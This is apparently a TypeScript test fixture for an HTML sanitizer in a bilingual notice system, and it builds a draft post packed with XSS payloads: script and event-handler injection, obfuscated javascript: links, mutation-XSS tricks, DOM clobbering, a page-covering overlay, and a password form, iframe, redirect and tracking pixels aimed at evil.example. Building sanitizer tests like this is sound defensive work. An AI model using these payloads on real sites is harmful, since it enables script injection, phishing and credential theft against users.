import type { Draft } from "./notice-words";

const RUN = "window.executed=1";

/** A post from a stolen editor's account: nothing of it may run, load, cover the page or leave its place. */
const attack = [
  `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}"><style>*{display:none}</style></svg>`,
  `<a href="javascript:${RUN}">press</a> <a href="java&Tab;script:${RUN}">press</a> <a href="//evil.example">press</a>`,
  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red" id="main" class="header">over everything</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `</style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>`,
  `<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  `<img src="https://evil.example/pixel.gif" alt="pixel"><p style="background:url(https://evil.example/x.gif)">a</p>`,
  `<img name="body"><a id="location">here</a>`,
  `<table><table><table></table></div></div></section></main></body></html>`,
  `<p>Some text, and <b><i><a href="/alert"><td>open without end`,
].join("\n"); // prettier-ignore

export const HOSTILE_NOTICE: Draft = {
  title: { ko: "<b>x</b> 시험용 글", en: "<b>x</b> for tests" },
  html: { ko: `<p>시작</p>${attack}`, en: `<p>Begins</p>${attack}` },
};
